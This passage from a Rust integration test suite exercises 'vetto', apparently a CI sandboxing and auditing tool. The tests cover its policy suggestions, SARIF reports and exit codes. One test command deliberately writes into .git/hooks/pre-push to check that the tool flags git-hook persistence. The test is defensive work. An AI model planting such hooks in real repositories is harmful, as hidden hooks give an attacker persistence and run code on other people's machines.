        assert!(
            observed.iter().any(|(r, a)| r == rule && a == "observed"),
            "{rule} not observed in {observed:?}"
        );
    }
}

/// `vetto policy suggest` on an audited session: the write outside the
/// project becomes a `write` rule for its directory, the planted hook is
/// named but not suggested, and the suggestion is a valid policy. Runs as
/// an unprivileged user.
#[test]
fn suggest_turns_an_audited_session_into_a_policy_to_review() {
    require!(Feature::SeccompNotify);
    let w = World::new();
    let ran = w.command("git", &["init", "-q"]).run();
    assert_eq!(ran.status.code(), Some(0), "git init: {}", ran.stderr());
    std::fs::create_dir_all(w.home.join(".cache/tool")).unwrap();
    w.give_away(&w.home);
    w.give_away(&w.project);
    let report = w.report_dir();
    let ran = w.vetto(&[
        "ci",
        "--audit",
        "--fail-on",
        "never",
        "--report-dir",
        report.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        "echo data > \"$HOME/.cache/tool/state\"; echo planted > .git/hooks/pre-push",
    ]);
    assert_eq!(ran.status.code(), Some(0), "{}", ran.stderr());
    let log = report.join("session.jsonl");
    let suggested = w.vetto(&["policy", "suggest", log.to_str().unwrap()]);
    assert_eq!(suggested.status.code(), Some(0), "{}", suggested.stderr());
    let toml = String::from_utf8(suggested.stdout).unwrap();
    assert!(toml.contains("\"~/.cache/tool\""), "{toml}");
    assert!(
        toml.contains("# ") && toml.contains("git-persistence-blocked"),
        "{toml}"
    );
    assert!(
        !toml.contains("\"${PROJECT}/.git"),
        "a hook directory was suggested:\n{toml}"
    );
    let file = w.write("suggested.toml", toml.as_bytes());
    let checked = w.vetto(&["policy", "check", file.to_str().unwrap()]);
    assert_eq!(
        checked.status.code(),
        Some(0),
        "{}\n{toml}",
        checked.stderr()
    );
}

/// A real `vetto ci` with violations, in a GitHub-Actions-like
/// environment: its SARIF is what GitHub accepts (schema, and 0
/// `sarif-multitool` errors); the withheld CI command-file variables are
/// said once (one stderr line, `withheld_env`), never a violation, a SARIF
/// result or a suggestion to pass them; and the end names the denial with
/// the flag that allows it. Runs as an unprivileged user, at FS-ONLY.
#[test]
fn a_real_ci_run_reports_violations_github_accepts_and_withholding_as_information() {
    let test = "a_real_ci_run_reports_violations_github_accepts_and_withholding_as_information";
    require!(Feature::FsOnly);
    let w = World::new();
    let ran = w.command("git", &["init", "-q"]).run();
    assert_eq!(ran.status.code(), Some(0), "git init: {}", ran.stderr());
    std::fs::create_dir_all(w.home.join(".cache/tool")).unwrap();
    w.give_away(&w.home);
    w.give_away(&w.project);
    let report = w.report_dir();
    let files = w.root.join("runner-files");
    std::fs::create_dir_all(&files).unwrap();
    w.give_away(&files);
    let mut cmd = w.command(
        util::vetto_bin(),
        &[
            "ci",
            // FS-ONLY names a denied creation (FULL's home has no `~/.cache`).
            "--tier",
            "fs-only",
            "--report-dir",
            report.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            "echo data > \"$HOME/.cache/tool/state\"; echo ok",
        ],
    );
    for var in [
        "GITHUB_ENV",
        "GITHUB_PATH",
        "GITHUB_OUTPUT",
        "GITHUB_STATE",
        "GITHUB_STEP_SUMMARY",
    ] {
        cmd = cmd.env(var, files.join(var.to_lowercase()));
    }
    let ran = cmd.run();
    assert_eq!(
        ran.status.code(),
        Some(3),
        "a violation, --fail-on violation:\n{}",
        ran.stderr()
    );
    sarif::assert_github_accepts(test, &report.join("vetto.sarif"));

    let stderr = ran.stderr();
    let said: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("GITHUB_ENV"))
        .collect();
    assert_eq!(said.len(), 1, "said once:\n{}", ran.stderr());
    assert!(
        said[0].starts_with("vetto: withheld 5 variable(s)"),
        "{}",
        said[0]
    );
    assert!(!said[0].contains("--env-pass"), "{}", said[0]);
    let log = w.session_log();
    assert!(
        log[0]["withheld_env"]
            .as_array()
            .is_some_and(|v| v.len() == 5),
        "{}",
        log[0]
    );
    let rules: Vec<&str> = log
        .iter()
        .filter(|e| e["type"] == "violation")
        .filter_map(|e| e["rule"].as_str())
        .collect();
    assert_eq!(rules, ["fs-write-denied"], "{rules:?}");
    let sarif_text = std::fs::read_to_string(report.join("vetto.sarif")).unwrap();
    let summary = std::fs::read_to_string(report.join("summary.md")).unwrap();
    for text in [&sarif_text, &summary] {
        assert!(!text.contains("pass_secret = [\"GITHUB"), "{text}");
    }
    let sarif: Value = serde_json::from_str(&sarif_text).unwrap();
    assert_eq!(
        sarif["runs"][0]["results"].as_array().map(Vec::len),
        Some(1)
    );
    // The denial, named with its rule and the flag that allows it.
    assert!(
        ran.stderr()
            .lines()
            .any(|l| l.contains("fs-write-denied ~/.cache/tool/state")
                && l.contains("to allow: --allow-write ~/.cache/tool  (policy: [filesystem] write = [\"~/.cache/tool\"])")),
        "{}",
        ran.stderr()
    );
}

/// `vetto ci --audit` observes: what it saw fails nothing (exit 0) unless
/// `--fail-on violation` is given explicitly (then 3). Runs as an
/// unprivileged user.
#[test]
fn audit_fails_the_job_only_when_fail_on_is_given() {
    require!(Feature::SeccompNotify);
    let w = World::new();
    std::fs::create_dir_all(w.home.join(".cache/tool")).unwrap();
    w.give_away(&w.home);
    w.give_away(&w.project);
    let report = w.report_dir();
    let job = ["sh", "-c", "echo data > \"$HOME/.cache/tool/state\""];
    let mut args = vec![
        "ci",
        "--audit",
        "--report-dir",
        report.to_str().unwrap(),
        "--",
    ];
    args.extend(job);
    let ran = w.vetto(&args);
    assert_eq!(ran.status.code(), Some(0), "{}", ran.stderr());
    assert!(
        ran.stderr().contains("would have refused"),
        "{}",
        ran.stderr()
    );
    let mut args = vec![
        "ci",
        "--audit",
        "--fail-on",
        "violation",
        "--report-dir",
        report.to_str().unwrap(),
        "--",
    ];
    args.extend(job);
    let ran = w.vetto(&args);
    assert_eq!(ran.status.code(), Some(3), "{}", ran.stderr());
}
